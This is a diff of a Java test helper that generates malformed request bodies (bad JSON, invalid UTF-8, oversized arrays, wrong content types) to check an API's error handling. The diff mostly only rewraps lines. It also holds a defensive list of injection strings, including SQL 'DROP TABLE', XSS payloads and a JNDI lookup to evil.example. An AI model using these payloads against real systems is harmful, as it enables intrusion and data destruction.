@@ -46,8 +46,7 @@ public final class BadInput {
     public static final Set<Integer> TOO_LARGE = Set.of(400, 413, 422);
     public static final Set<Integer> UNSUPPORTED = Set.of(400, 415);
 
-    private BadInput() {
-    }
+    private BadInput() {}
 
     /** One kind of bad input: a name, the raw body, its content type (null: none) and the statuses that may answer it. */
     public record Kind(String name, byte[] body, String contentType, Set<Integer> expected) {
@@ -77,19 +76,23 @@ public final class BadInput {
         }
 
         public Target required(String field) {
-            return new Target(method, path, role, sample, field, enumField, timestampField, countField, maxBodyBytes, except);
+            return new Target(method, path, role, sample, field, enumField, timestampField, countField, maxBodyBytes,
+                    except);
         }
 
         public Target enumAt(String field) {
-            return new Target(method, path, role, sample, requiredField, field, timestampField, countField, maxBodyBytes, except);
+            return new Target(method, path, role, sample, requiredField, field, timestampField, countField,
+                    maxBodyBytes, except);
         }
 
         public Target timestampAt(String field) {
-            return new Target(method, path, role, sample, requiredField, enumField, field, countField, maxBodyBytes, except);
+            return new Target(method, path, role, sample, requiredField, enumField, field, countField, maxBodyBytes,
+                    except);
         }
 
         public Target countAt(String field) {
-            return new Target(method, path, role, sample, requiredField, enumField, timestampField, field, maxBodyBytes, except);
+            return new Target(method, path, role, sample, requiredField, enumField, timestampField, field, maxBodyBytes,
+                    except);
         }
 
         /**
@@ -97,7 +100,8 @@ public final class BadInput {
          * "JSON null", "empty object {}").
          */
         public Target except(String... kinds) {
-            return new Target(method, path, role, sample, requiredField, enumField, timestampField, countField, maxBodyBytes,
+            return new Target(method, path, role, sample, requiredField, enumField, timestampField, countField,
+                    maxBodyBytes,
                     Set.of(kinds));
         }
 
@@ -109,12 +113,14 @@ public final class BadInput {
 
     /** The names of every kind the catalogue can produce (those needing a field appear only when the target has one). */
     public static final List<String> KINDS = List.of("malformed JSON (truncated)", "trailing garbage after JSON",
-            "comment in JSON", "empty body", "JSON null", "empty object {}", "array instead of object", "string instead of object",
+            "comment in JSON", "empty body", "JSON null", "empty object {}", "array instead of object",
+            "string instead of object",
             "number instead of object", "boolean instead of object", "single-quoted JSON", "unquoted keys",
             "XML instead of JSON", "duplicate keys", "nesting depth 10,000", "invalid UTF-8 bytes",
             "lone surrogate \\uD800", "NUL and control chars", "wrong type for string field (object)",
             "wrong type for string field (number)", "wrong type for number field (string)", "number overflow 1e400",
-            "integer overflow 2^70", "NaN literal", "huge string 2 MB", "array of 100,000", "wrong content type text/plain",
+            "integer overflow 2^70", "NaN literal", "huge string 2 MB", "array of 100,000",
+            "wrong content type text/plain",
             "form content type", "no content type", "oversized body > limit", "drop required field",
             "required field null", "unknown enum value", "enum as number", "timestamp year 9999", "timestamp year 1",
             "timestamp not a date", "negative count", "unknown field");
@@ -140,7 +146,8 @@ public final class BadInput {
         kinds.add(new Kind("empty body", new byte[0], APPLICATION_JSON, BAD_REQUEST));
         kinds.add(json("JSON null", "null"));
         kinds.add(json("empty object {}", "{}"));
-        kinds.add(sample.isObject() ? json("array instead of object", "[" + s + "]")
+        kinds.add(sample.isObject()
+                ? json("array instead of object", "[" + s + "]")
                 : json("object instead of array", "{\"items\":" + s + "}"));
         kinds.add(json("string instead of object", "\"" + firstKey + "\""));
         kinds.add(json("number instead of object", "42"));
@@ -149,14 +156,17 @@ public final class BadInput {
         kinds.add(json("unquoted keys", s.replaceAll("\"([A-Za-z0-9_]+)\":", "$1:")));
         kinds.add(json("XML instead of JSON", "<?xml version=\"1.0\"?><" + firstKey + ">x</" + firstKey + ">"));
         String duplicated = "{\"" + firstKey + "\":" + object.get(firstKey) + "," + object.toString().substring(1);
-        kinds.add(json("duplicate keys", objectPath.isEmpty() ? duplicated : replaceRaw(sample, objectPath, duplicated)));
+        kinds.add(json("duplicate keys", objectPath.isEmpty()
+                ? duplicated
+                : replaceRaw(sample, objectPath, duplicated)));
         String deep = "[".repeat(10_000) + "]".repeat(10_000);
         kinds.add(json("nesting depth 10,000", replaceRaw(sample, text, deep)));
         String marker = "\u0001MARK\u0001";
         {
-            byte[] withMarker = bytes(with(sample, text, JsonNodeFactory.instance.textNode("before" + marker + "after")));
+            byte[] withMarker = bytes(with(sample, text, JsonNodeFactory.instance.textNode("before" + marker
+                    + "after")));
             kinds.add(new Kind("invalid UTF-8 bytes", replace(withMarker, "\\u0001MARK\\u0001",
-                    new byte[] { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE }), APPLICATION_JSON, BAD_REQUEST));
+                    new byte[]{(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE}), APPLICATION_JSON, BAD_REQUEST));
             kinds.add(json("lone surrogate \\uD800", replaceRaw(sample, text, "\"before\\uD800after\"")));
             kinds.add(json("NUL and control chars", replaceRaw(sample, text, "\"a\\u0000b\\u0007c\\u001b[31m\"")));
             kinds.add(json("wrong type for string field (object)", replaceRaw(sample, text, "{\"unexpected\":true}")));
@@ -174,7 +184,8 @@ public final class BadInput {
         }
         String arrayField = sample.isArray() ? null : firstPath(sample, JsonNode::isArray);
         ArrayNode huge = JsonNodeFactory.instance.arrayNode();
-        JsonNode element = arrayField == null || at(sample, arrayField).isEmpty() ? JsonNodeFactory.instance.textNode("x")
+        JsonNode element = arrayField == null || at(sample, arrayField).isEmpty()
+                ? JsonNodeFactory.instance.textNode("x")
                 : at(sample, arrayField).get(0);
         // 100,000 copies of the array's first element (or of "x"); for an array body, of its first element.
         for (int i = 0; i < 100_000; i++) {
@@ -186,7 +197,8 @@ public final class BadInput {
                 huge.add(sample.get(0));
             }
         }
-        kinds.add(new Kind("array of 100,000", sample.isArray() ? bytes(huge)
+        kinds.add(new Kind("array of 100,000", sample.isArray()
+                ? bytes(huge)
                 : bytes(with(sample, arrayField == null ? anyField : arrayField, huge)), APPLICATION_JSON, TOO_LARGE));
         kinds.add(new Kind("wrong content type text/plain", bytes(sample), "text/plain", UNSUPPORTED));
         kinds.add(new Kind("form content type", bytes(sample), "application/x-www-form-urlencoded", UNSUPPORTED));
@@ -195,7 +207,8 @@ public final class BadInput {
                 APPLICATION_JSON, Set.of(413)));
         if (target.requiredField() != null) {
             kinds.add(json("drop required field " + target.requiredField(), without(sample, target.requiredField())));
-            kinds.add(json("required field null " + target.requiredField(), replaceRaw(sample, target.requiredField(), "null")));
+            kinds.add(json("required field null " + target.requiredField(), replaceRaw(sample, target.requiredField(),
+                    "null")));
         }
         if (target.enumField() != null) {
             kinds.add(json("unknown enum value in " + target.enumField(),
@@ -214,8 +227,10 @@ public final class BadInput {
             kinds.add(json("negative count in " + target.countField(), replaceRaw(sample, target.countField(), "-1")));
         }
         // A field the endpoint does not know (a typo, a field of another version) is refused, never silently dropped.
-        kinds.add(new Kind("unknown field", bytes(with(sample, objectPath.isEmpty() ? UNKNOWN_FIELD
-                : objectPath + "." + UNKNOWN_FIELD, JsonNodeFactory.instance.numberNode(1))), APPLICATION_JSON, Set.of(400)));
+        kinds.add(new Kind("unknown field", bytes(with(sample, objectPath.isEmpty()
+                ? UNKNOWN_FIELD
+                : objectPath + "." + UNKNOWN_FIELD, JsonNodeFactory.instance.numberNode(1))), APPLICATION_JSON, Set.of(
+                        400)));
         kinds.removeIf(k -> target.except().contains(k.name()));
         return kinds;
     }
@@ -243,7 +258,8 @@ public final class BadInput {
         SoftAssertions soft = new SoftAssertions();
         int fired = 0;
         for (Target target : targets) {
-            int n = verifyKinds(target.toString(), catalogue.apply(target), k -> send(target, k), BadInput::assertProblem,
+            int n = verifyKinds(target.toString(), catalogue.apply(target), k -> send(target, k),
+                    BadInput::assertProblem,
                     state, soft);
             soft.assertThat(n).as("kinds fired at %s", target).isGreaterThanOrEqualTo(minKinds);
             fired += n;
@@ -280,7 +296,8 @@ public final class BadInput {
                 soft.fail("%s: no answer (%s)", where, e);
                 continue;
             }
-            soft.assertThat(r.statusCode()).as("status of %s (body %s)", where, abbreviate(r.body())).isIn(kind.expected());
+            soft.assertThat(r.statusCode()).as("status of %s (body %s)", where, abbreviate(r.body())).isIn(kind
+                    .expected());
             expectation.check(kind, r, where, soft);
             soft.assertThat(state.get()).as("store after %s", where).isEqualTo(before);
         }
@@ -300,7 +317,8 @@ public final class BadInput {
         if (r.contentType() != null && r.contentType().startsWith("application/problem+json")) {
             soft.assertThat(r.json().path("title").asText()).as("title of %s", where).isNotBlank();
             soft.assertThat(r.json().path("status").asInt()).as("status field of %s", where).isEqualTo(r.statusCode());
-            soft.assertThat(r.json().path("detail").asText()).as("detail of %s", where).doesNotContainPattern(JAVA_NAME);
+            soft.assertThat(r.json().path("detail").asText()).as("detail of %s", where).doesNotContainPattern(
+                    JAVA_NAME);
             r.json().path("errors").forEach(e -> soft.assertThat(e.path("message").asText())
                     .as("field message of %s", where).doesNotContainPattern(JAVA_NAME));
             if (kind.name().equals("unknown field")) {
@@ -397,8 +415,8 @@ public final class BadInput {
             byte[] body;
             if (chunked) {
                 ByteArrayOutputStream all = new ByteArrayOutputStream();
-                for (int size = Integer.parseInt(line(in).split(";")[0].trim(), 16); size > 0;
-                        size = Integer.parseInt(line(in).split(";")[0].trim(), 16)) {
+                for (int size = Integer.parseInt(line(in).split(";")[0].trim(), 16); size > 0; size = Integer.parseInt(
+                        line(in).split(";")[0].trim(), 16)) {
                     all.writeBytes(in.readNBytes(size));
                     line(in);
                 }
@@ -406,7 +424,8 @@ public final class BadInput {
             } else {
                 body = length >= 0 ? in.readNBytes((int) length) : in.readAllBytes();
             }
-            return new Answer(Integer.parseInt(status.split(" ")[1]), contentType, new String(body, StandardCharsets.UTF_8),
+            return new Answer(Integer.parseInt(status.split(" ")[1]), contentType, new String(body,
+                    StandardCharsets.UTF_8),
                     List.copyOf(cookies));
         }
     }
@@ -475,39 +494,46 @@ public final class BadInput {
         java.util.Arrays.fill(big, (byte) 'y');
         System.arraycopy(file, 0, big, 0, file.length);
         kinds.add(new Kind("oversized body > limit", big, type, Set.of(413)));
-        byte[] invalid = { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE };
+        byte[] invalid = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE};
         kinds.add(new Kind("invalid UTF-8 bytes in the first row", insertAtFirstSpace(sample, firstRow, invalid), type,
                 BAD_REQUEST));
-        String longer = sample + (sample.endsWith("\n") ? "" : "\n") + firstRow.replace("bad-input", "bad-input-last") + "\n";
+        String longer = sample + (sample.endsWith("\n") ? "" : "\n") + firstRow.replace("bad-input", "bad-input-last")
+                + "\n";
         kinds.add(new Kind("invalid UTF-8 bytes in the last row", insertAtFirstSpace(longer,
                 firstRow.replace("bad-input", "bad-input-last"), invalid), type, BAD_REQUEST));
         kinds.add(new Kind("lone surrogate (CESU-8 ED A0 80)", insertAtFirstSpace(sample, firstRow,
-                new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }), type, BAD_REQUEST));
+                new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}), type, BAD_REQUEST));
         kinds.add(new Kind("overlong UTF-8 (C0 AF)", insertAtFirstSpace(sample, firstRow,
-                new byte[] { (byte) 0xC0, (byte) 0xAF }), type, BAD_REQUEST));
+                new byte[]{(byte) 0xC0, (byte) 0xAF}), type, BAD_REQUEST));
         ByteArrayOutputStream utf16 = new ByteArrayOutputStream();
-        utf16.writeBytes(new byte[] { (byte) 0xFF, (byte) 0xFE });
+        utf16.writeBytes(new byte[]{(byte) 0xFF, (byte) 0xFE});
         utf16.writeBytes(sample.getBytes(StandardCharsets.UTF_16LE));
         kinds.add(new Kind("NUL bytes (a UTF-16 file)", utf16.toByteArray(), type, BAD_REQUEST));
         kinds.add(new Kind("binary file (gzip)", gzip(file), type, BAD_REQUEST));
-        kinds.add(new Kind("XML instead of the format", "<?xml version=\"1.0\"?>\n<rows><row>the app is down</row></rows>\n"
-                .getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
+        kinds.add(new Kind("XML instead of the format",
+                "<?xml version=\"1.0\"?>\n<rows><row>the app is down</row></rows>\n"
+                        .getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
         if (jsonl) {
-            String array = "[" + String.join(",", java.util.Arrays.stream(lines).filter(l -> !l.isBlank()).toList()) + "]\n";
-            kinds.add(new Kind("JSON array instead of JSONL", array.getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
+            String array = "[" + String.join(",", java.util.Arrays.stream(lines).filter(l -> !l.isBlank()).toList())
+                    + "]\n";
+            kinds.add(new Kind("JSON array instead of JSONL", array.getBytes(StandardCharsets.UTF_8), type,
+                    BAD_REQUEST));
             kinds.add(new Kind("first line not JSON (truncated)", (lines[0].substring(0, lines[0].length() - 1) + "\n"
                     + sample).getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
             kinds.add(new Kind("CSV instead of JSONL", "externalId,text\nbad-input-csv,the app is down\n"
                     .getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
         } else {
             String header = lines[0];
-            kinds.add(new Kind("no text column in the header", sample.replaceFirst(java.util.regex.Pattern.quote(header),
+            kinds.add(new Kind("no text column in the header", sample.replaceFirst(java.util.regex.Pattern.quote(
+                    header),
                     header.replace("text", "words")).getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
-            kinds.add(new Kind("unterminated quote in the header", sample.replaceFirst(java.util.regex.Pattern.quote(header),
+            kinds.add(new Kind("unterminated quote in the header", sample.replaceFirst(java.util.regex.Pattern.quote(
+                    header),
                     "\"" + header).getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
             kinds.add(new Kind("JSONL instead of CSV", "{\"externalId\":\"bad-input-j\",\"text\":\"the app is down\"}\n"
                     .getBytes(StandardCharsets.UTF_8), type, BAD_REQUEST));
-            kinds.add(new Kind("other delimiter than announced", sample.replace(',', ';').getBytes(StandardCharsets.UTF_8),
+            kinds.add(new Kind("other delimiter than announced", sample.replace(',', ';').getBytes(
+                    StandardCharsets.UTF_8),
                     type, BAD_REQUEST));
         }
         kinds.removeIf(k -> target.except().contains(k.name()));
@@ -552,7 +578,8 @@ public final class BadInput {
      * The row count and an md5 of the content of each table of the public schema (but {@code ignored} ones, e.g. the
      * Flyway history or tables that background jobs touch), in the database at {@code jdbcUrl}.
      */
-    public static Map<String, String> tableState(String jdbcUrl, String user, String password, Collection<String> ignored) {
+    public static Map<String, String> tableState(String jdbcUrl, String user, String password,
+            Collection<String> ignored) {
         try (Connection c = DriverManager.getConnection(jdbcUrl, user, password == null ? "" : password)) {
             List<String> tables = new ArrayList<>();
             try (PreparedStatement st = c.prepareStatement("select table_name from information_schema.tables"
@@ -566,8 +593,9 @@ public final class BadInput {
             }
             Map<String, String> state = new LinkedHashMap<>();
             for (String table : tables) {
-                try (PreparedStatement st = c.prepareStatement("select count(*), md5(coalesce(string_agg(t::text, '|' order by t::text), ''))"
-                        + " from \"" + table + "\" t");
+                try (PreparedStatement st = c.prepareStatement(
+                        "select count(*), md5(coalesce(string_agg(t::text, '|' order by t::text), ''))"
+                                + " from \"" + table + "\" t");
                         ResultSet rs = st.executeQuery()) {
                     rs.next();
                     state.put(table, rs.getLong(1) + " rows, " + rs.getString(2));
@@ -583,7 +611,8 @@ public final class BadInput {
 
     /** Strings that must be accepted, stored verbatim (inert) and rendered escaped wherever a page shows them. */
     public static final List<String> INJECTIONS = List.of("'; DROP TABLE cases; --", "<script>alert('x')</script>",
-            "{{7*7}} ${7*7} #{7*7}", "${jndi:ldap://evil.example/a}", "\" onmouseover=\"alert(1)", "<img src=x onerror=alert(1)>");
+            "{{7*7}} ${7*7} #{7*7}", "${jndi:ldap://evil.example/a}", "\" onmouseover=\"alert(1)",
+            "<img src=x onerror=alert(1)>");
 
     /** {@code sample} with the string at {@code field} replaced by {@code value}. */
     public static String withText(String sample, String field, String value) {
@@ -603,7 +632,7 @@ public final class BadInput {
 
     /** Awaits two equal reads of {@code state} half a second apart: background work has settled. */
     public static void awaitSettled(Supplier<?> state) {
-        Object[] last = { state.get() };
+        Object[] last = {state.get()};
         org.awaitility.Awaitility.await().atMost(java.time.Duration.ofSeconds(120))
                 .pollInterval(java.time.Duration.ofMillis(500)).until(() -> {
                     Object now = state.get();
@@ -628,8 +657,10 @@ public final class BadInput {
     private static JsonNode parse(String sample) {
         try {
             JsonNode node = JSON.readTree(sample);
-            if (!(node instanceof ObjectNode) && !(node instanceof ArrayNode a && !a.isEmpty() && a.get(0).isObject())) {
-                throw new IllegalArgumentException("the sample must be a JSON object or an array of objects: " + sample);
+            if (!(node instanceof ObjectNode) && !(node instanceof ArrayNode a && !a.isEmpty() && a.get(0)
+                    .isObject())) {
+                throw new IllegalArgumentException("the sample must be a JSON object or an array of objects: "
+                        + sample);
             }
             return node;
         } catch (JsonProcessingException e) {
